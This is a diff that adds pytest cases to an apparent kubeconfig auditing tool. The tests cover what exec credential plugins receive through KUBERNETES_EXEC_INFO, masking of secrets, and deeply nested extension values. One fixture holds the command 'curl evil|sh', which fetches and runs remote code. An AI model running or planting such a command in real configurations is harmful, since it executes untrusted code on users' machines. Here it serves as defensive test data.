@@ -200,6 +200,49 @@ def test_what_would_not_run_now_is_told_and_as_bad(
     assert (page["runs"][0]["grade"], code) == ("error", 1)
 
 
+EXEC = "client.authentication.k8s.io/exec"
+DEEP: Any = 0
+for _ in range(300):
+    DEEP = [DEEP]
+#: What a user has beside its plugin, the extensions of its cluster, and what its plugin is told of them.
+TOLD: list[tuple[dict[str, Any], list[dict[str, Any]], str | None]] = [
+    ({"provideClusterInfo": True}, [{"name": EXEC, "extension": {"run": "curl evil|sh"}}], '{"run":"curl evil|sh"}'),
+    ({"provideClusterInfo": True}, [{"name": "x", "extension": 1}, {"name": EXEC, "extension": ["a"]}], '["a"]'),
+    (
+        {"provideClusterInfo": True},
+        [{"name": EXEC, "extension": {"auth": {"x": ["correct"]}}}],
+        '{"auth":{"x":["***"]}}',
+    ),
+    ({"provideClusterInfo": True}, [{"name": EXEC, "extension": DEEP}], f"{'[' * 300}0{']' * 300}"),
+    ({"provideClusterInfo": True}, [{"name": EXEC, "extension": None}], None),
+    ({"provideClusterInfo": True}, [{"name": "x", "extension": {"run": "x"}}], None),
+    ({"provideClusterInfo": True}, [], None),
+    ({"provideClusterInfo": False}, [{"name": EXEC, "extension": {"run": "x"}}], None),
+    ({}, [{"name": EXEC, "extension": {"run": "x"}}], None),
+]
+
+
+@pytest.mark.parametrize(("beside", "extensions", "told"), TOLD)
+def test_what_a_plugin_is_told_of_the_cluster_is_shown(
+    tmp_path: Path, beside: dict[str, Any], extensions: list[dict[str, Any]], told: str | None
+) -> None:
+    """kubectl puts it into KUBERNETES_EXEC_INFO, whatever the file sets that to."""
+    user = plugin("gke-gcloud-auth-plugin")
+    user["exec"].update(beside)
+    (run,) = audited(tmp_path, config(user, {"extensions": extensions}))[0]["runs"]
+    expected = [] if told is None else [{"name": "KUBERNETES_EXEC_INFO", "value": told}]
+    assert (run["environment"], run["grade"]) == (expected, "info" if told is None else "warning")
+
+
+def test_settings_for_a_plugin_that_are_nested_deep_are_told(tmp_path: Path) -> None:
+    user = plugin("corp")
+    user["exec"]["provideClusterInfo"] = True
+    text = config(user, {"extensions": [{"name": EXEC, "extension": "DEEP"}]})
+    page, _, code = audited(tmp_path, text.replace('"DEEP"', "[" * 980 + "]" * 980))
+    assert [each["name"] for each in page["runs"][0]["environment"]] == ["KUBERNETES_EXEC_INFO"]
+    assert code == 1
+
+
 def test_what_is_empty_or_a_key_is_told_in_one_line(tmp_path: Path) -> None:
     key = "-----BEGIN PRIVATE KEY-----\nMIIEow\n-----END PRIVATE KEY-----\n"
     page, _, _ = audited(tmp_path, config({**plugin(""), "client-key": key}))
